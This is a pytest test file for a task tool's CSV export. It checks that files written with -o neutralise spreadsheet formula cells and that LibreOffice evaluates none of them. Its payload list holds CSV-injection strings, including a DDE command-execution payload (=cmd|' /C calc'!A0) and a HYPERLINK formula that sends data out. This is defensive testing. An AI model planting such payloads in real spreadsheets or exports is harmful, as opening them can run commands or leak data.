"""A CSV written with `-o` is opened by people in a spreadsheet: cells that a spreadsheet would
run (= + - @, or a tab or CR at the start) are neutralised with a leading ', as `--excel` and
templates already do. `--format csv` to stdout stays faithful data for scripts."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from pathlib import Path

import pytest
from conftest import Run

PAYLOADS = {
    1: "=1+1",
    2: "+1+1",
    3: "-1+1",
    4: "@SUM(1,1)",
    5: '=HYPERLINK("http://example.com/?leak","点我")',
    6: "=cmd|' /C calc'!A0",
}


@pytest.fixture
def notes(seeded: Run) -> Run:
    """A note that a spreadsheet would run as the latest note of tasks 1-6."""
    for no, note in PAYLOADS.items():
        r = seeded("record-progress", str(no), "--percent", "5", "--note", note)
        assert r.exit_code == 0, r.output
    return seeded


def _cells(text: str) -> dict[int, str]:
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    return {int(r["id"]): r["latest_note"] for r in rows}


def test_export_to_a_csv_file_neutralises_formula_cells(notes: Run, tmp_path: Path) -> None:
    target = tmp_path / "tasks.csv"
    r = notes("export", "--fields", "id,latest_note", "-o", str(target))
    assert r.exit_code == 0, r.output
    cells = _cells(target.read_text(encoding="utf-8"))
    for no, note in PAYLOADS.items():
        assert cells[no] == "'" + note, no
    assert cells[7] == ""  # nothing added to a cell that is safe


def test_export_csv_to_stdout_stays_faithful(notes: Run) -> None:
    r = notes("export", "--fields", "id,latest_note", "--format", "csv")
    assert r.exit_code == 0, r.output
    cells = _cells(r.stdout)
    for no, note in PAYLOADS.items():
        assert cells[no] == note, no
    r = notes("list", "--fields", "id,text", "--format", "csv", "--limit", "1")
    assert r.exit_code == 0, r.output
    assert "'" not in r.stdout


def test_numbers_in_a_csv_file_stay_numbers(notes: Run, tmp_path: Path) -> None:
    target = tmp_path / "tasks.csv"
    r = notes("export", "--fields", "id,percent", "-o", str(target))
    assert r.exit_code == 0, r.output
    assert target.read_text(encoding="utf-8").splitlines()[1] == "1,5"


@pytest.mark.skipif(
    shutil.which("soffice") is None,
    reason="LibreOffice (soffice) is not installed: apt-get install libreoffice-calc-nogui",
)
def test_libreoffice_evaluates_no_formula_from_an_exported_file(notes: Run, tmp_path: Path) -> None:
    """LibreOffice headless opens the CSV with formula evaluation on (the faithful stdout CSV
    is the control: its formulas do evaluate); no cell of the `-o` file becomes a formula."""
    openpyxl = pytest.importorskip("openpyxl")
    safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
    assert notes("export", "--fields", "id,latest_note", "-o", str(safe)).exit_code == 0
    r = notes("export", "--fields", "id,latest_note", "--format", "csv")
    raw.write_text(r.stdout, encoding="utf-8")
    out = tmp_path / "out"
    # comma, ", UTF-8, from row 1, ..., token 13: evaluate formulas
    infilter = "CSV:44,34,76,1,,,false,false,false,false,false,-1,true"
    done = subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation={(tmp_path / 'lo-profile').as_uri()}",
            "--headless",
            f"--infilter={infilter}",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(out),
            str(safe),
            str(raw),
        ],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert (out / "safe.xlsx").exists(), done.stdout + done.stderr

    def kinds(name: str) -> dict[int, tuple[str, object]]:
        ws = openpyxl.load_workbook(out / name).active
        return {
            int(ws.cell(row, 1).value): (ws.cell(row, 2).data_type, ws.cell(row, 2).value)
            for row in range(2, 2 + len(PAYLOADS))
        }

    control = kinds("raw.xlsx")
    assert any(kind == "f" for kind, _ in control.values()), control  # LibreOffice evaluates
    for no, (kind, value) in kinds("safe.xlsx").items():
        assert kind == "s", (no, kind, value)
        assert value == "'" + PAYLOADS[no]
